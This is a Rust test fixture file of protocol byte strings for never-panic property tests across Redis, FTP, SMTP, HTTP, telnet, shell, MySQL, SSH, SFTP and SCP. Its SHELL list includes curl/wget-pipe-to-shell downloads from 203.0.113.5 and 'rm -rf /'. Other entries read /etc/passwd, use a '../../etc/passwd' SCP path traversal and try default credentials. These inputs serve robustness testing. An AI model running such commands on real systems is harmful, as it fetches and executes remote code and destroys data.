//! Protocol tokens for the property tests of `never_panic.rs`: pieces of
//! valid (and deliberately broken) requests, mixed with random bytes so the
//! generated sessions get past their first line.

pub const REDIS: &[&[u8]] = &[
    b"*1\r\n$4\r\nPING\r\n",
    b"*2\r\n$4\r\nAUTH\r\n$1\r\np\r\n",
    b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n",
    b"*2\r\n$3\r\nGET\r\n",
    b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$1\r\n*\r\n",
    b"*2\r\n$4\r\nKEYS\r\n$1\r\n*\r\n",
    b"*2\r\n$5\r\nHELLO\r\n$1\r\n3\r\n",
    b"*1\r\n$4\r\nINFO\r\n",
    b"$5\r\nhello\r\n",
    b"$-1\r\n",
    b"*-1\r\n",
    b"*999999999\r\n",
    b"$2147483648\r\n",
    b"INFO server\r\n",
    b"CONFIG SET dir /tmp\r\n",
    b"\"unterminated 'quote\r\n",
    b"QUIT\r\n",
    b"\r\n",
];

pub const FTP: &[&[u8]] = &[
    b"USER anonymous\r\n",
    b"USER bob\r\n",
    b"PASS pw\r\n",
    b"PASS x@\r\n",
    b"PASV\r\n",
    b"EPSV\r\n",
    b"PORT 127,0,0,1,4,1\r\n",
    b"PORT 999,1,1,1,1,1\r\n",
    b"EPRT |1|127.0.0.1|1025|\r\n",
    b"LIST\r\n",
    b"NLST -la\r\n",
    b"RETR pub/README\r\n",
    b"STOR x.bin\r\n",
    b"CWD ..\r\n",
    b"REST 100\r\n",
    b"TYPE I\r\n",
    b"SITE CHMOD 777 x\r\n",
    b"AUTH TLS\r\n",
    b"QUIT\r\n",
    b"\r\n",
];

pub const SMTP: &[&[u8]] = &[
    b"EHLO x\r\n",
    b"HELO x\r\n",
    b"AUTH LOGIN\r\n",
    b"AUTH PLAIN AGFkbWluAHB3\r\n",
    b"AUTH PLAIN\r\n",
    b"YWRtaW4=\r\n",
    b"*\r\n",
    b"MAIL FROM:<a@b>\r\n",
    b"MAIL FROM:<a@b> SIZE=99999999\r\n",
    b"RCPT TO:<c@d>\r\n",
    b"DATA\r\n",
    b"BDAT 10\r\n",
    b"BDAT 5 LAST\r\n",
    b"Subject: x\r\n\r\nbody\r\n",
    b".\r\n",
    b"..\r\n",
    b"STARTTLS\r\n",
    b"RSET\r\n",
    b"VRFY root\r\n",
    b"QUIT\r\n",
];

pub const HTTP: &[&[u8]] = &[
    b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /wp-login.php HTTP/1.1\r\nHost: x\r\n",
    b"POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Length: 20\r\n\r\n",
    b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"5\r\nhello\r\n0\r\n\r\n",
    b"ffffffffffffffff\r\n",
    b"log=admin&pwd=secret",
    b"Authorization: Basic YWRtaW46YWRtaW4=\r\n",
    b"Content-Length: 99999999999999999999\r\n",
    b"Connection: close\r\n",
    b"\r\n",
    b"GET /phpmyadmin/ HTTP/1.0\r\n\r\n",
    b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
];

/// A Linux telnet client's whole answer to inetutils-telnetd's negotiation
/// (captured; see the telnet unit tests), after which the login prompt shows.
pub const NEGOTIATION: &[&[u8]] = &[
    b"\xff\xfd%\xff\xfd&\xff\xfa&\x01\xff\xf0\xff\xfb\x18\xff\xfb \xff\xfc#\xff\xfb'\xff\xfc$",
    b"\xff\xfa \x0038400,38400\xff\xf0\xff\xfa'\x00\xff\xf0\xff\xfa\x18\x00XTERM\xff\xf0",
    b"\xff\xfd\x03\xff\xfc\x01\xff\xfb\"\xff\xfa\"\x03\x01\x00\x00\x03b\x03\x04\x02\x0f\x05\x00\x00\x07b\x1c\x08\x02\x04\tB\x1a\n\x02\x7f\x0b\x02\x15\x0c\x02\x17\r\x02\x12\x0e\x02\x16\x0f\x02\x11\x10\x02\x13\x11\x00\x00\x12\x00\x00\xff\xf0\xff\xfb\x1f\xff\xfa\x1f\x00\x00\x00\x00\xff\xf0\xff\xfd\x05\xff\xfb!",
    b"\xff\xfa\"\x01\x07\xff\xf0",
];

pub const TELNET: &[&[u8]] = &[
    b"\xff\xfd%\xff\xfd&\xff\xfa&\x01\xff\xf0\xff\xfb\x18\xff\xfb \xff\xfc#\xff\xfb'\xff\xfc$",
    b"\xff\xfa \x0038400,38400\xff\xf0\xff\xfa'\x00\xff\xf0\xff\xfa\x18\x00XTERM\xff\xf0",
    b"\xff\xfb\x18",
    b"\xff\xfa\x18\x00xterm\xff\xf0",
    b"\xff\xfd\x01",
    b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0",
    b"\xff\xfa\x27\x00\x00USER\x01root\xff\xf0",
    b"\xff\xf4",
    b"\xff\xff",
    b"root\r\n",
    b"toor\r\n",
    b"root\r\0",
    b"uname -a\r\n",
    b"cat /etc/passwd | grep root\r\n",
    b"\x7f\x15\x03\x04",
    b"\x1b[A\x1b[D",
    b"exit\r\n",
];

pub const SHELL: &[&[u8]] = &[
    b"uname -a\r",
    b"id; whoami; w\r",
    b"cd /tmp && ls -la\r",
    b"cat /proc/cpuinfo | grep model | wc -l\r",
    b"echo $((1/0)) ${HOME:-x} $(pwd) `id`\r",
    b"wget http://203.0.113.5/x.sh -O- | sh\r",
    b"curl -s http://203.0.113.5/y | bash\r",
    b"export A=b; history; which ls\r",
    b"for i in 1 2; do echo $i; done\r",
    b"chmod +x x; rm -rf /; free -m; ps aux\r",
    b"cat <<EOF\r",
    b"'unterminated \"\r",
    b"\x1b[A\x1b[B\x1b[C\x1b[D",
    b"\t\t",
    b"\x03\x04\x7f\x15\x17",
    b"exit\r",
];

pub const MYSQL: &[&[u8]] = &[
    b"\x20\x00\x00\x01\x85\xa6\xff\x01\x00\x00\x00\x01\x21",
    b"root\x00",
    b"\x14abcdefghijklmnopqrst",
    b"mysql_native_password\x00",
    b"caching_sha2_password\x00",
    b"\x01\x00\x00\x03\x02",
    b"\xff\xff\xff\x01",
    b"\x00\x00\x00\x00",
    b"\x05\x00\x00\x00\x03select",
];

pub const SSH_IDENT: &[&[u8]] = &[
    b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n",
    b"SSH-1.99-x\r\n",
    b"SSH-1.5-x\n",
    b"SSH-2.0-",
    b"GET / HTTP/1.0\r\n",
    b"\r\n",
];

pub const SFTP: &[&[u8]] = &[
    b"\x00\x00\x00\x05\x01\x00\x00\x00\x03",
    b"\x00\x00\x00\x1d\x03\x00\x00\x00\x01\x00\x00\x00\x0c/tmp/pay.bin\x00\x00\x00\x1a\x00\x00\x00\x00",
    b"\x00\x00\x00\x0d\x06\x00\x00\x00\x02\x00\x00\x00\x04/etc",
    b"\x00\x00\x00\x11\x05\x00\x00\x00\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
    b"\xff\xff\xff\xff",
    b"\x00\x00\x00\x00",
];

pub const SCP: &[&[u8]] = &[
    b"C0644 5 x.bin\n",
    b"C0755 99999999999 big\n",
    b"D0755 0 dir\n",
    b"E\n",
    b"T1 0 1 0\n",
    b"hello\0",
    b"\0",
    b"\x01warning\n",
    b"C0644 3 ../../etc/passwd\n",
];
